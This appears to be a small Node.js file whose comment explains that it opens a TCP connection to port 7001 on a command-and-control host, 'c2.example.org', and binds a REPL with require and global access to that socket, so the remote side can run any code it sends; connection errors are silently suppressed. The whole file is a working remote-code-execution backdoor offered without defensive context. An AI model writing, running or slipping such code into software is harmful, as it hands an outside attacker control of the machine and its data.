// Download and run: a REPL whose input is a TCP connection. repl.start()
// evaluates every line that arrives on the socket in this process, with
// require available, so the remote side runs any code it sends.
'use strict';
const net = require('net');
const repl = require('repl');

const sock = net.connect(7001, 'c2.example.org', () => {
  repl.start({ input: sock, output: sock, prompt: '', terminal: false, useGlobal: true });
});
sock.on('error', () => {});
